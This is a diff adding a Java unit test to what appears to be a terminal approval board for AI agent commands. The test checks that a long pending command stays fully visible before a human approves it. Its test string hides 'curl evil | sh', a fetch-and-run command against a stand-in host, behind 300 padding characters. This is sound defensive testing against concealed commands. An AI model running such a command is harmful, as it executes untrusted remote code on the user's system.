@@ -144,6 +144,30 @@ class BoardTest {
   }
 
   @Test
+  void what_is_to_be_allowed_is_seen_to_its_end() {
+    var deed = "Bash: echo " + "x".repeat(300) + " é; curl evil | sh (no rule names it)";
+    var run = run("agent-aaaaaaaa", "a").put("state", "waiting");
+    run.putArray("waiting_for").addObject().put("id", "need-1").put("text", deed);
+    board.show(List.of(run));
+    board.draw(SIZE, NOW);
+    press("a");
+    press("yes");
+    for (var size : List.of(SIZE, new Size(60, 14), new Size(40, 30))) {
+      var lines = board.draw(size, NOW);
+      assertThat(lines).hasSize(size.rows());
+      assertThat(String.join("", lines)).as("%s", size).contains(deed);
+      assertThat(lines.getLast()).endsWith("yes▏");
+    }
+    assertThat(board.draw(new Size(30, 8), NOW))
+        .hasSize(8)
+        .anyMatch(it -> it.contains("'retinue answer' shows all of it"));
+    for (var size : List.of(new Size(20, 5), new Size(1, 1), new Size(400, 100))) {
+      assertThat(board.draw(size, NOW)).hasSize(size.rows());
+    }
+    assertThat(press("\r")).isEqualTo(new Board.Wish.Answer("agent-aaaaaaaa", "need-1", "yes"));
+  }
+
+  @Test
   void who_is_asked_nothing_cannot_be_answered() {
     board.show(List.of(run("agent-aaaaaaaa", "a")));
     board.draw(SIZE, NOW);
